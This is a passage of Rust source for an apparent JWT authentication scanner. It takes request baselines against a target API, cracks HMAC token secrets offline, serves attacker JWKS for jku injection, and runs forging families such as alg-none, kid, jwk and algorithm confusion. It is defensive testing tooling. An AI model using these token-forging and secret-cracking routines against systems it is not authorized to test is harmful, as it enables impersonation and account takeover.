//! One probe run: discovery, baselines, then the attack families, each followed by a
//! re-check of the valid baseline.

use crate::callback::CallbackServer;
use crate::discovery::{self, SpecSource};
use crate::http::{Engine, Limits, Refused, Req, Resp};
use crate::openapi::{Credential, Operation};
use crate::oracle::{self, Mask, Profile, Verdict};
use crate::rules::*;
use jwtward_jose::{Alg, Jws, Key, NONE_CASE_FORMS, confusion_secrets, load_keys};
use jwtward_report::{ErrorEntry, Evidence, Finding, RuleMeta};
use reqwest::Url;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::hash::{Hash, Hasher};
use std::sync::{Arc, Mutex};
use std::time::{SystemTime, UNIX_EPOCH};
use tokio::task::JoinSet;

/// Everything a run needs, as the command line gives it.
#[derive(Clone, Debug, Default)]
pub struct Config {
    pub target: String,
    pub spec: Option<SpecSource>,
    /// `--token` values; the first is the baseline identity, all are audited offline.
    pub tokens: Vec<String>,
    /// `--signing-key`/`--signing-key-file`: PEM/JWK key material or a raw HMAC secret.
    pub signing_key: Option<Vec<u8>>,
    /// `--public-key`: key material already read (PEM, JWK, JWKS), with its origin name.
    pub public_keys: Vec<(String, Vec<u8>)>,
    /// `--public-key URL`s to fetch.
    pub public_key_urls: Vec<String>,
    pub wordlist: Option<std::path::PathBuf>,
    pub cookie_names: Vec<String>,
    pub headers: Vec<(String, String)>,
    pub include: Vec<String>,
    pub exclude: Vec<String>,
    pub unsafe_methods: bool,
    pub limits: Limits,
    pub callback_url: Option<String>,
}

/// What a run produced.
#[derive(Debug, Default)]
pub struct Outcome {
    pub findings: Vec<Finding>,
    pub errors: Vec<ErrorEntry>,
    pub requests: usize,
    pub endpoints: usize,
    /// The operations tested, as `METHOD /path` (the spec's template).
    pub tested: Vec<String>,
    pub spec_source: Option<String>,
    /// The rejection status learnt from the no-credentials baselines.
    pub rejection_status: Option<u16>,
}

/// Cookie names tried for the token-in-cookie check, besides `--cookie-name` and the spec's.
pub const COMMON_COOKIES: [&str; 8] = [
    "access_token",
    "token",
    "jwt",
    "Authorization",
    "session",
    "auth",
    "id_token",
    "accessToken",
];

/// Query parameter names tried for the token-in-query check.
pub const COMMON_QUERY: [&str; 6] = [
    "token",
    "access_token",
    "jwt",
    "auth",
    "id_token",
    "api_key",
];

const SENSITIVE: [&str; 14] = [
    "admin", "internal", "export", "users", "user", "settings", "config", "private", "manage",
    "secret", "debug", "billing", "account", "backup",
];

/// Runs a probe on a fresh runtime. `observer` is called with the number of requests sent.
pub fn run(
    config: Config,
    observer: Option<Box<dyn Fn(usize) + Send + Sync>>,
) -> anyhow::Result<Outcome> {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    rt.block_on(run_async(config, observer))
}

struct TokenInfo {
    raw: String,
    jws: Option<Jws>,
}

impl TokenInfo {
    fn alg(&self) -> Option<Alg> {
        self.jws.as_ref()?.alg()?.parse().ok()
    }
}

/// One endpoint under test.
struct Endpoint {
    method: String,
    path: String,
    url: String,
    body: Option<String>,
    headers: Vec<(String, String)>,
    channel: Credential,
    secured: bool,
    declared: BTreeSet<Credential>,
}

/// An endpoint with its baselines.
struct State {
    ep: Endpoint,
    valid: Option<(Req, Resp)>,
    no_creds: (Req, Resp),
    garbage: Option<(Req, Resp)>,
    corrupted: Option<(Req, Resp)>,
    profile: Option<Profile>,
    /// Token attacks make sense: the valid token is told apart from every rejection.
    eligible: bool,
    /// The corrupted-signature baseline already looks like the valid one.
    unverified: bool,
    /// First eligible endpoint of its rejection group: gets the full variant lists.
    rep: bool,
    group: u64,
    /// 5xx answers to bad tokens seen on this endpoint (`server-error-on-token`).
    server_errors: Mutex<Vec<(String, Req, Resp)>>,
    hits: Mutex<BTreeSet<&'static str>>,
}

struct Ctx {
    engine: Engine,
    token: Option<TokenInfo>,
    nonce: String,
    findings: Mutex<Vec<Finding>>,
    errors: Mutex<Vec<ErrorEntry>>,
    cookie_names: Vec<String>,
    attacker_ec: Key,
    attacker_rsa: Option<Key>,
    callback: Option<CallbackServer>,
    /// Key material for the claims matrix and forged tokens: (key, alg, where from).
    signing: Mutex<Option<(Key, Alg, String)>>,
    public_keys: Vec<(String, Key, Vec<u8>)>,
}

const ATTACKER_RSA_PEM: &str = include_str!("keys/attacker_rsa.pem");

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0)
}

fn error(kind: &str, message: impl Into<String>) -> ErrorEntry {
    ErrorEntry {
        kind: kind.to_string(),
        message: message.into(),
        file: None,
        line: None,
        column: None,
    }
}

async fn run_async(
    config: Config,
    observer: Option<Box<dyn Fn(usize) + Send + Sync>>,
) -> anyhow::Result<Outcome> {
    let target = Url::parse(&config.target)
        .map_err(|e| anyhow::anyhow!("`{}` is not a URL: {e}", config.target))?;
    let mut engine = Engine::new(&target, config.limits.clone())?;
    if let Some(f) = observer {
        engine.set_observer(f);
    }
    let mut errors: Vec<ErrorEntry> = Vec::new();

    // The token.
    let token = match config.tokens.first() {
        None => None,
        Some(t) => {
            let raw = t
                .trim()
                .trim_start_matches("Bearer ")
                .trim_start_matches("bearer ")
                .trim()
                .to_string();
            if raw.is_empty() {
                anyhow::bail!("--token is empty");
            }
            let jws = match Jws::parse(&raw) {
                Ok(j) => Some(j),
                Err(e) => {
                    errors.push(error(
                        "token-not-jwt",
                        format!(
                            "--token is not a JWT ({e}); only the checks that need no forging run"
                        ),
                    ));
                    None
                }
            };
            Some(TokenInfo { raw, jws })
        }
    };

    let include = globs(&config.include, "--include")?;
    let exclude = globs(&config.exclude, "--exclude")?;

    // Signing key given by the user.
    let mut signing = None;
    if let Some(material) = &config.signing_key {
        let alg = token.as_ref().and_then(TokenInfo::alg);
        let key = match load_keys(material) {
            Ok(keys) => keys
                .into_iter()
                .map(|k| k.key)
                .find(|k| k.is_private())
                .ok_or_else(|| anyhow::anyhow!("--signing-key holds only public keys; give the private key or the HMAC secret"))?,
            Err(_) => Key::Hmac(material.clone()),
        };
        let alg = match alg {
            Some(a) if key.fits(a) && a != Alg::None => a,
            _ => key.algorithms()[0],
        };
        signing = Some((key, alg, "the key given with --signing-key".to_string()));
    }

    // Public keys given by the user.
    let mut public_keys: Vec<(String, Key, Vec<u8>)> = Vec::new();
    for (name, bytes) in &config.public_keys {
        let keys = load_keys(bytes).map_err(|e| anyhow::anyhow!("--public-key {name}: {e}"))?;
        for k in keys {
            if let Some(p) = k.key.public() {
                public_keys.push((name.clone(), p, k.original.clone()));
            }
        }
    }
    for u in &config.public_key_urls {
        let resp = engine
            .fetch_document(u)
            .await
            .map_err(|e| anyhow::anyhow!("--public-key {u}: {e}"))?;
        if !(200..300).contains(&resp.status) {
            anyhow::bail!(
                "--public-key {u}: HTTP {} ({})",
                resp.status,
                resp.excerpt(80)
            );
        }
        let keys = load_keys(&resp.body).map_err(|e| anyhow::anyhow!("--public-key {u}: {e}"))?;
        for k in keys {
            if let Some(p) = k.key.public() {
                public_keys.push((u.clone(), p, k.original.clone()));
            }
        }
    }

    // The spec.
    let found = discovery::find_spec(&engine, &target, config.spec.as_ref()).await?;
    for w in &found.spec.warnings {
        errors.push(error("spec-warning", w.clone()));
    }
    let prefix = if found.spec.base_path.is_empty() {
        target.path().trim_end_matches('/').to_string()
    } else {
        found.spec.base_path.clone()
    };
    let origin = format!(
        "{}://{}",
        target.scheme(),
        target.host_str().unwrap_or_default()
    ) + &target.port().map(|p| format!(":{p}")).unwrap_or_default();

    let mut endpoints = Vec::new();
    for op in &found.spec.operations {
        let safe = matches!(op.method.as_str(), "GET" | "HEAD" | "OPTIONS");
        if !safe && !config.unsafe_methods {
            continue;
        }
        if op.method == "TRACE" {
            continue;
        }
        let concrete = op.concrete_path();
        if !include.is_empty()
            && !include.is_match(&op.path)
            && !include.is_match(concrete.split('?').next().unwrap_or(""))
        {
            continue;
        }
        if exclude.is_match(&op.path) || exclude.is_match(concrete.split('?').next().unwrap_or(""))
        {
            continue;
        }
        endpoints.push(endpoint(op, &origin, &prefix, safe, &config.headers));
    }
    let endpoint_count = endpoints.len();
    let tested: Vec<String> = endpoints
        .iter()
        .map(|e| format!("{} {}", e.method, e.path))
        .collect();
    if endpoints.is_empty() {
        errors.push(error(
            "no-endpoints",
            format!(
                "the spec ({}) lists no operation to test{}",
                found.source,
                if config.unsafe_methods {
                    ""
                } else {
                    " with GET/HEAD/OPTIONS (add --unsafe-methods for the others)"
                }
            ),
        ));
    }

    let mut cookie_names: Vec<String> = COMMON_COOKIES.iter().map(|s| s.to_string()).collect();
    for c in config
        .cookie_names
        .iter()
        .chain(found.spec.cookie_names.iter())
    {
        if !cookie_names.contains(c) {
            cookie_names.push(c.clone());
        }
    }

    let nonce = nonce();
    let attacker_ec = Key::generate_p256();
    let attacker_rsa = load_keys(ATTACKER_RSA_PEM.as_bytes())
        .ok()
        .and_then(|k| k.into_iter().next())
        .map(|k| k.key);

    // jku: serve our JWKS when the target is on loopback or a callback URL is given.
    let callback_url = match &config.callback_url {
        Some(u) => Some(Url::parse(u).map_err(|e| anyhow::anyhow!("--callback-url `{u}`: {e}"))?),
        None => None,
    };
    let callback = if token.as_ref().is_some_and(|t| t.jws.is_some())
        && (engine.origin.is_loopback() || callback_url.is_some())
    {
        let mut keys = vec![with_kid(
            attacker_ec.to_public_jwk(),
            &format!("jwtward-ec-{nonce}"),
            "ES256",
        )];
        if let Some(r) = &attacker_rsa {
            keys.push(with_kid(
                r.to_public_jwk(),
                &format!("jwtward-rsa-{nonce}"),
                "RS256",
            ));
        }
        let jwks = json!({ "keys": keys }).to_string();
        match CallbackServer::start(jwks, &nonce, callback_url.as_ref()).await {
            Ok(s) => Some(s),
            Err(e) => {
                errors.push(error(
                    "callback",
                    format!(
                        "could not start the jku server: {e}; jku-header-injection is not tested"
                    ),
                ));
                None
            }
        }
    } else {
        None
    };

    // JWKS discovery when the token is asymmetric and no public key was given.
    if public_keys.is_empty()
        && let Some(alg) = token.as_ref().and_then(TokenInfo::alg)
        && !alg.is_hmac()
        && alg != Alg::None
    {
        for (url, body) in discovery::find_jwks(&engine, &target).await {
            if let Ok(keys) = load_keys(&body) {
                for k in keys {
                    if let Some(p) = k.key.public() {
                        public_keys.push((url.clone(), p, k.original.clone()));
                    }
                }
            }
        }
    }

    let ctx = Arc::new(Ctx {
        engine,
        token,
        nonce,
        findings: Mutex::new(Vec::new()),
        errors: Mutex::new(errors),
        cookie_names,
        attacker_ec,
        attacker_rsa,
        callback,
        signing: Mutex::new(signing),
        public_keys,
    });

    // Offline crack of HS tokens, concurrently with the baselines.
    let crack = {
        let tokens = config.tokens.clone();
        let wordlist = config.wordlist.clone();
        tokio::task::spawn_blocking(move || {
            crate::crack::crack_tokens(&tokens, wordlist.as_deref())
        })
    };

    // Baselines.
    let states = baselines(&ctx, endpoints).await;
    let rejection_status = learn_rejection_status(&states);
    let states: Vec<Arc<State>> = states.into_iter().map(Arc::new).collect();
    baseline_findings(&ctx, &states, rejection_status);

    // Weak secret (token level).
    match crack.await {
        Ok(Ok(found)) => {
            for (i, secret, label) in found {
                // A property of the token, not of an endpoint: no method or path.
                let mut f = Finding::new(
                    &WEAK_SECRET,
                    format!(
                        "the HMAC key of {} is {} ({label}): anyone can sign tokens for any user",
                        if i == 0 {
                            "the token".to_string()
                        } else {
                            format!("token #{}", i + 1)
                        },
                        show_secret(&secret)
                    ),
                );
                f.url = Some(ctx.engine.origin_url());
                f.evidence = Some(Evidence {
                    request: format!("offline dictionary search on --token #{}", i + 1),
                    status: 0,
                    body_excerpt: format!("key: {}", show_secret(&secret)),
                    baselines: BTreeMap::new(),
                });
                f.curl = Some(format!(
                    "jwtward crack {}",
                    crate::http::shell_quote(&config.tokens[i])
                ));
                push_finding(&ctx, f);
                if i == 0 {
                    let mut s = ctx.signing.lock().expect("signing");
                    let alg = ctx
                        .token
                        .as_ref()
                        .and_then(TokenInfo::alg)
                        .unwrap_or(Alg::HS256);
                    *s = Some((
                        Key::Hmac(secret),
                        alg,
                        format!("the recovered key ({label})"),
                    ));
                }
            }
        }
        Ok(Err(e)) => push_error(&ctx, error("crack", format!("{e:#}"))),
        Err(e) => push_error(&ctx, error("crack", e.to_string())),
    }

    // The attack families, each followed by a health check of the valid baseline.
    let families: [(&str, Family); 8] = [
        ("transport", Family::Transport),
        ("signature", Family::Signature),
        ("alg-none", Family::None),
        ("kid", Family::Kid),
        ("jwk", Family::Jwk),
        ("jku", Family::Jku),
        ("algorithm-confusion", Family::Confusion),
        ("signing-key", Family::Key),
    ];
    for (name, family) in families {
        if ctx.engine.is_stopped() {
            break;
        }
        let mut set = JoinSet::new();
        for st in &states {
            let wanted = match family {
                Family::Transport => st.valid.is_some(),
                Family::Signature => st.eligible,
                _ => st.eligible && !st.unverified,
            };
            if wanted {
                let ctx = ctx.clone();
                let st = st.clone();
                set.spawn(async move { family.run(&ctx, &st).await });
            }
        }
        let ran = !set.is_empty();
        while set.join_next().await.is_some() {}
        if ran {
            health_check(&ctx, &states, name).await;
        }
    }

    // Server errors, one finding per endpoint.
    for st in &states {
        let errs = st.server_errors.lock().expect("errors");
        if let Some((what, req, resp)) = errs.first() {
            let kinds: BTreeSet<&str> = errs.iter().map(|(w, _, _)| w.as_str()).collect();
            let f = finding(
                &SERVER_ERROR_ON_TOKEN,
                st,
                format!(
                    "{} {} answers {} to a bad token ({}): the token error is not handled",
                    st.ep.method,
                    st.ep.path,
                    resp.status,
                    kinds.into_iter().collect::<Vec<_>>().join(", ")
                ),
                req,
                resp,
            );
            let _ = what;
            push_finding(&ctx, f);
        }
    }

    let requests = ctx.engine.sent();
    let ctx = Arc::try_unwrap(ctx).map_err(|_| anyhow::anyhow!("internal: tasks still running"))?;
    let mut findings = ctx.findings.into_inner().expect("findings");
    let errors = ctx.errors.into_inner().expect("errors");
    findings.dedup();
    Ok(Outcome {
        findings,
        errors,
        requests,
        endpoints: endpoint_count,
        tested,
        spec_source: Some(found.source),
        rejection_status,
    })
}

fn with_kid(mut jwk: Value, kid: &str, alg: &str) -> Value {
    if let Some(o) = jwk.as_object_mut() {
        o.insert("kid".into(), Value::String(kid.into()));
        o.insert("alg".into(), Value::String(alg.into()));
        o.insert("use".into(), Value::String("sig".into()));
    }
    jwk
}

fn show_secret(secret: &[u8]) -> String {
    match std::str::from_utf8(secret) {
        Ok(s) if s.chars().all(|c| !c.is_control()) => format!("`{s}`"),
        _ => format!(
            "hex {}",
            secret
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
        ),
    }
}

fn nonce() -> String {
    let t = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    let mut h = std::collections::hash_map::DefaultHasher::new();
    (t, std::process::id()).hash(&mut h);
    format!("{:016x}", h.finish())
}

fn globs(patterns: &[String], flag: &str) -> anyhow::Result<globset::GlobSet> {
    let mut b = globset::GlobSetBuilder::new();
    for p in patterns {
        let g = globset::GlobBuilder::new(p)
            .literal_separator(false)
            .build()
            .map_err(|e| anyhow::anyhow!("{flag} `{p}`: {e}"))?;
        b.add(g);
    }
    Ok(b.build()?)
}

fn endpoint(
    op: &Operation,
    origin: &str,
    prefix: &str,
    safe: bool,
    user_headers: &[(String, String)],
) -> Endpoint {
    let channel =
        if op.credentials.is_empty() || op.credentials.contains(&Credential::Authorization) {
            Credential::Authorization
        } else {
            op.credentials
                .iter()
                .next()
                .cloned()
                .unwrap_or(Credential::Authorization)
        };
    let mut headers: Vec<(String, String)> = user_headers.to_vec();
    for (n, v) in op.required_headers() {
        if !headers.iter().any(|(h, _)| h.eq_ignore_ascii_case(&n)) {
            headers.push((n, v));
        }
    }
    // Unsafe methods get a schema-invalid body: FastAPI authenticates, then answers 422
    // before the handler runs.
    let body = if safe { None } else { Some("{}".to_string()) };
    if body.is_some() {
        headers.push(("Content-Type".into(), "application/json".into()));
    }
    Endpoint {
        method: op.method.clone(),
        path: op.path.clone(),
        url: format!("{origin}{prefix}{}", op.concrete_path()),
        body,
        headers,
        channel,
        secured: op.secured,
        declared: op.credentials.clone(),
    }
}

impl Ctx {
    /// A request to `ep` carrying `token` (if any) in the endpoint's channel.
    fn request(&self, ep: &Endpoint, token: Option<&str>) -> Req {
        self.request_in(ep, token, &ep.channel)
    }

    fn request_in(&self, ep: &Endpoint, token: Option<&str>, channel: &Credential) -> Req {
        let mut url = ep.url.clone();
        let mut headers: Vec<(String, String)> = ep
            .headers
            .iter()
            .filter(|(n, _)| !n.eq_ignore_ascii_case("authorization"))
            .cloned()
            .collect();
        if let Some(t) = token {
            match channel {
                Credential::Authorization => {
                    headers.push(("Authorization".into(), format!("Bearer {t}")))
                }
                Credential::Header(n) => headers.push((n.clone(), t.to_string())),
                Credential::Cookie(n) => headers.push(("Cookie".into(), format!("{n}={t}"))),
                Credential::Query(n) => {
                    url.push(if url.contains('?') { '&' } else { '?' });
                    url.push_str(&format!(
                        "{}={}",
                        crate::openapi::encode_component(n),
                        crate::openapi::encode_component(t)
                    ));
                }
            }
        }
        Req {
            method: ep.method.clone(),
            url,
            headers,
            body: ep.body.clone(),
        }
    }

    fn original(&self) -> Option<&str> {
        self.token.as_ref().map(|t| t.raw.as_str())
    }

    /// Sends an attack token, after checking that it replaced the original in the request.
    async fn attack(&self, st: &State, token: &str, label: &str) -> Option<(Verdict, Req, Resp)> {
        let req = self.request(&st.ep, Some(token));
        self.attack_req(st, req, token, label).await
    }

    async fn attack_req(
        &self,
        st: &State,
        req: Req,
        token: &str,
        label: &str,
    ) -> Option<(Verdict, Req, Resp)> {
        if let Some(orig) = self.original()
            && token != orig
            && (req.contains(orig) || !req.contains(token))
        {
            push_error(
                self,
                error(
                    "substitution",
                    format!(
                        "{} {}: the {label} token did not replace the original in the request; not sent",
                        st.ep.method, st.ep.path
                    ),
                ),
            );
            return None;
        }
        let resp = self.send(&req).await?;
        let profile = st.profile.as_ref()?;
        let verdict = profile.judge(&resp);
        if verdict == Verdict::NoAnswer {
            push_error(
                self,
                error(
                    "no-answer",
                    format!(
                        "{} {}: no answer to the {label} request ({})",
                        st.ep.method,
                        st.ep.path,
                        resp.error.as_deref().unwrap_or("unknown error")
                    ),
                ),
            );
        }
        if verdict == Verdict::ServerError {
            st.server_errors.lock().expect("errors").push((
                label.to_string(),
                req.clone(),
                resp.clone(),
            ));
        }
        Some((verdict, req, resp))
    }

    async fn send(&self, req: &Req) -> Option<Resp> {
        match self.engine.send(req).await {
            Ok(r) => Some(r),
            Err(Refused::Stopped) => None,
            Err(e) => {
                if e == Refused::Budget {
                    self.engine.stop();
                }
                push_error(self, error("request-refused", e.to_string()));
                None
            }
        }
    }

    fn random_sub(&self) -> String {
        format!("jwtward-nobody-{}", self.nonce)
    }
}

fn push_finding(ctx: &Ctx, f: Finding) {
    let mut list = ctx.findings.lock().expect("findings");
    if !list
        .iter()
        .any(|g| g.rule == f.rule && g.method == f.method && g.path == f.path)
    {
        list.push(f);
    }
}

fn push_error(ctx: &Ctx, e: ErrorEntry) {
    let mut list = ctx.errors.lock().expect("errors");
    if !list
        .iter()
        .any(|x| x.kind == e.kind && x.message == e.message)
    {
        list.push(e);
    }
}

/// Records a finding of `rule` on the endpoint of `st`; the message starts with the route.
fn report(
    ctx: &Ctx,
    st: &State,
    rule: &RuleMeta,
    what: impl std::fmt::Display,
    req: &Req,
    resp: &Resp,
) {
    let message = format!("{} {} {what}", st.ep.method, st.ep.path);
    push_finding(ctx, finding(rule, st, message, req, resp));
}

/// A finding on `st`'s endpoint with `req`/`resp` as evidence and the baselines beside it.
fn finding(rule: &RuleMeta, st: &State, message: String, req: &Req, resp: &Resp) -> Finding {
    let mut f = Finding::new(rule, message).with_route(st.ep.method.clone(), st.ep.path.clone());
    f.url = Some(req.url.clone());
    let mut baselines = BTreeMap::new();
    let line = |r: &Resp| format!("{}: {}", r.status, r.excerpt(120));
    if let Some((_, r)) = &st.valid {
        baselines.insert("valid".to_string(), line(r));
    }
    baselines.insert("no-credentials".to_string(), line(&st.no_creds.1));
    if let Some((_, r)) = &st.garbage {
        baselines.insert("garbage".to_string(), line(r));
    }
    if let Some((_, r)) = &st.corrupted {
        baselines.insert("corrupted-signature".to_string(), line(r));
    }
    f.evidence = Some(Evidence {
        request: req.describe(),
        status: resp.status,
        body_excerpt: resp.excerpt(300),
        baselines,
    });
    f.curl = Some(req.curl());
    f
}

const GARBAGE: &str = "jwtward-invalid-token";

async fn baselines(ctx: &Arc<Ctx>, endpoints: Vec<Endpoint>) -> Vec<State> {
    let mut set = JoinSet::new();
    for (i, ep) in endpoints.into_iter().enumerate() {
        let ctx = ctx.clone();
        set.spawn(async move { (i, baseline(&ctx, ep).await) });
    }
    let mut out: Vec<(usize, State)> = Vec::new();
    while let Some(r) = set.join_next().await {
        if let Ok((i, Some(s))) = r {
            out.push((i, s));
        }
    }
    out.sort_by_key(|(i, _)| *i);
    let mut states: Vec<State> = out.into_iter().map(|(_, s)| s).collect();
    // Representatives: the first eligible endpoint of each rejection group.
    let mut seen = BTreeSet::new();
    for s in states.iter_mut() {
        if s.eligible && seen.insert(s.group) {
            s.rep = true;
        }
    }
    states
}

async fn baseline(ctx: &Ctx, ep: Endpoint) -> Option<State> {
    let no_req = ctx.request(&ep, None);
    let mut valid = None;
    let mut garbage = None;
    let mut corrupted = None;
    let mut mask = Mask::default();
    let no_resp;
    let mut stable = true;
    if let Some(tok) = &ctx.token {
        let vreq = ctx.request(&ep, Some(&tok.raw));
        let (a, b, n, g) =
            tokio::join!(ctx.send(&vreq), ctx.send(&vreq), ctx.send(&no_req), async {
                let greq = ctx.request(&ep, Some(GARBAGE));
                ctx.send(&greq).await.map(|r| (greq, r))
            });
        let (a, b, n) = (a?, b?, n?);
        mask = Mask::learn(&[&a, &b]);
        no_resp = n;
        garbage = g;
        if let Some(jws) = &tok.jws {
            let c = jws.with_corrupted_signature().to_compact();
            let creq = ctx.request(&ep, Some(&c));
            if let Some(r) = ctx.send(&creq).await {
                corrupted = Some((creq, r));
            }
        }
        // Unstable valid answers (per-worker secrets, rate limits): no oracle.
        stable = a.status == b.status;
        valid = Some((vreq, a));
        if !stable {
            push_error(
                ctx,
                error(
                    "unstable-baseline",
                    format!(
                        "{} {}: the valid token got {} then {}: the endpoint is skipped for token attacks",
                        ep.method,
                        ep.path,
                        valid
                            .as_ref()
                            .map(|v: &(Req, Resp)| v.1.status)
                            .unwrap_or(0),
                        b.status
                    ),
                ),
            );
        }
    } else {
        no_resp = ctx.send(&no_req).await?;
    }
    let mut profile = None;
    let mut eligible = false;
    let mut unverified = false;
    let mut group = 0u64;
    if let Some((_, v)) = &valid {
        let mut p = Profile::new(mask, v);
        p.add_rejection("no-credentials", &no_resp);
        if let Some((_, g)) = &garbage {
            p.add_rejection("garbage", g);
        }
        // A body cut at the size cap cannot be compared: no oracle for this endpoint.
        let valid_ok = v.is_answer() && v.status < 500 && !v.truncated;
        let distinct = valid_ok
            && !p.rejections.iter().any(|(_, f)| f.same(&p.valid))
            && !(no_resp.status == v.status && oracle::looks_like_auth_error(&v.body));
        if let Some((_, c)) = &corrupted {
            if distinct && p.like_valid(c) {
                unverified = true;
            } else {
                p.add_rejection("corrupted-signature", c);
            }
        }
        eligible = distinct && stable;
        let mut h = std::collections::hash_map::DefaultHasher::new();
        format!("{:?}", ep.channel).hash(&mut h);
        for (n, f) in &p.rejections {
            (n, f.status, f.www_authenticate, f.fingerprint).hash(&mut h);
        }
        group = h.finish();
        profile = Some(p);
    }
    Some(State {
        ep,
        valid,
        no_creds: (no_req, no_resp),
        garbage,
        corrupted,
        profile,
        eligible,
        unverified,
        rep: false,
        group,
        server_errors: Mutex::new(Vec::new()),
        hits: Mutex::new(BTreeSet::new()),
    })
}

fn learn_rejection_status(states: &[State]) -> Option<u16> {
    let mut counts: BTreeMap<u16, usize> = BTreeMap::new();
    for s in states {
        let st = s.no_creds.1.status;
        if oracle::is_auth_rejection_status(st) {
            *counts.entry(st).or_default() += 1;
        }
    }
    counts.into_iter().max_by_key(|(_, n)| *n).map(|(s, _)| s)
}

fn is_2xx(r: &Resp) -> bool {
    (200..300).contains(&r.status)
}

/// A "rejection" answer: an auth status, or an answer the profile files with rejections.
fn is_rejection(r: &Resp) -> bool {
    oracle::is_auth_rejection_status(r.status)
        || (is_2xx(r) && oracle::looks_like_auth_error(&r.body))
}

fn is_sensitive(path: &str) -> bool {
    path.split('/')
        .filter(|s| !s.starts_with('{'))
        .flat_map(|s| s.split(['-', '_', '.']))
        .any(|w| SENSITIVE.contains(&w.to_ascii_lowercase().as_str()))
}

/// Findings that need no request beyond the baselines.
fn baseline_findings(ctx: &Ctx, states: &[Arc<State>], rejection_status: Option<u16>) {
    let protected_siblings = states
        .iter()
        .filter(|s| is_rejection(&s.no_creds.1) && (s.ep.secured || s.eligible))
        .count();
    for st in states {
        let (nreq, nresp) = &st.no_creds;
        let no_2xx =
            is_2xx(nresp) && !nresp.truncated && !oracle::looks_like_auth_error(&nresp.body);
        // missing-auth / optional-auth
        if no_2xx {
            match (&st.valid, &st.profile) {
                (Some((_, v)), Some(p)) => {
                    let same = p.like_valid(nresp);
                    if same && !oracle::looks_like_auth_error(&v.body) {
                        if st.ep.secured || (is_sensitive(&st.ep.path) && protected_siblings > 0) {
                            let why = if st.ep.secured {
                                "the spec declares a security requirement".to_string()
                            } else {
                                format!(
                                    "its path looks sensitive and {protected_siblings} sibling endpoint(s) require a token{}",
                                    rejection_status
                                        .map(|r| format!(", answering {r} without one"))
                                        .unwrap_or_default()
                                )
                            };
                            push_finding(
                                ctx,
                                finding(
                                    &MISSING_AUTH,
                                    st,
                                    format!(
                                        "{} {} answers {} without credentials, exactly as with the token ({why})",
                                        st.ep.method, st.ep.path, nresp.status
                                    ),
                                    nreq,
                                    nresp,
                                ),
                            );
                        }
                    } else if is_2xx(v) && !same {
                        push_finding(
                            ctx,
                            finding(
                                &OPTIONAL_AUTH,
                                st,
                                format!(
                                    "{} {} answers {} without credentials and {} with the token, with different content: authentication is optional",
                                    st.ep.method, st.ep.path, nresp.status, v.status
                                ),
                                nreq,
                                nresp,
                            ),
                        );
                    }
                }
                _ => {
                    if st.ep.secured || (is_sensitive(&st.ep.path) && protected_siblings > 0) {
                        report(
                            ctx,
                            st,
                            &MISSING_AUTH,
                            format!(
                                "answers {} without credentials although {}",
                                nresp.status,
                                if st.ep.secured {
                                    "the spec declares a security requirement"
                                } else {
                                    "its path looks sensitive and its siblings require a token"
                                }
                            ),
                            nreq,
                            nresp,
                        );
                    }
                }
            }
        }
        // invalid-token-accepted / signature-not-verified (corrupted baseline)
        if let (Some((_, v)), Some(p)) = (&st.valid, &st.profile) {
            if is_rejection(nresp) {
                for (name, bad) in [
                    ("garbage", &st.garbage),
                    ("corrupted-signature", &st.corrupted),
                ] {
                    let Some((breq, bresp)) = bad else { continue };
                    if is_2xx(bresp)
                        && !p.like_valid(bresp)
                        && !oracle::looks_like_auth_error(&bresp.body)
                    {
                        push_finding(
                            ctx,
                            finding(
                                &INVALID_TOKEN_ACCEPTED,
                                st,
                                format!(
                                    "{} {} rejects requests without credentials ({}) but answers {} to a {name} token: the bad token is treated as anonymous",
                                    st.ep.method, st.ep.path, nresp.status, bresp.status
                                ),
                                breq,
                                bresp,
                            ),
                        );
                        break;
                    }
                }
            }
            // 5xx on the bad-token baselines.
            if v.status < 500 {
                for (name, bad) in [
                    ("garbage", &st.garbage),
                    ("corrupted-signature", &st.corrupted),
                ] {
                    if let Some((breq, bresp)) = bad
                        && bresp.status >= 500
                    {
                        st.server_errors.lock().expect("errors").push((
                            name.to_string(),
                            breq.clone(),
                            bresp.clone(),
                        ));
                    }
                }
            }
        }
        // auth-error-leak and missing-www-authenticate on the rejections.
        let mut rejections: Vec<(&str, &Req, &Resp)> = vec![("no-credentials", nreq, nresp)];
        for (name, bad) in [
            ("garbage", &st.garbage),
            ("corrupted-signature", &st.corrupted),
        ] {
            if let Some((r, s)) = bad {
                rejections.push((name, r, s));
            }
        }
        for (name, req, resp) in &rejections {
            if (400..500).contains(&resp.status)
                && let Some(leak) = oracle::leaked_error(&resp.body)
            {
                push_finding(
                    ctx,
                    finding(
                        &AUTH_ERROR_LEAK,
                        st,
                        format!(
                            "the {name} rejection of {} {} carries exception text: \"{leak}\"",
                            st.ep.method, st.ep.path
                        ),
                        req,
                        resp,
                    ),
                );
                break;
            }
        }
        for (name, req, resp) in &rejections {
            if resp.status == 401 && resp.header("www-authenticate").is_none() {
                push_finding(
                    ctx,
                    finding(
                        &MISSING_WWW_AUTHENTICATE,
                        st,
                        format!(
                            "{} {} answers 401 to the {name} request without a WWW-Authenticate header",
                            st.ep.method, st.ep.path
                        ),
                        req,
                        resp,
                    ),
                );
                break;
            }
        }
    }
}

async fn health_check(ctx: &Ctx, states: &[Arc<State>], family: &str) {
    let Some(st) = states.iter().find(|s| s.eligible) else {
        return;
    };
    let (Some((req, _)), Some(p)) = (&st.valid, &st.profile) else {
        return;
    };
    for _ in 0..2 {
        match ctx.send(req).await {
            Some(r) if p.like_valid(&r) || p.judge(&r).accepted() => return,
            Some(_) => continue,
            None => return,
        }
    }
    push_error(
        ctx,
        error(
            "valid-token-failing",
            format!(
                "after the {family} attacks the valid token no longer works on {} {} (revoked, locked out or rate-limited?): the run stopped",
                st.ep.method, st.ep.path
            ),
        ),
    );
    ctx.engine.stop();
}

#[derive(Clone, Copy)]
enum Family {
    Transport,
    Signature,
    None,
    Kid,
    Jwk,
    Jku,
    Confusion,
    Key,
}

impl Family {
    async fn run(self, ctx: &Ctx, st: &State) {
        match self {
            Family::Transport => transport(ctx, st).await,
            Family::Signature => signature(ctx, st).await,
            Family::None => alg_none(ctx, st).await,
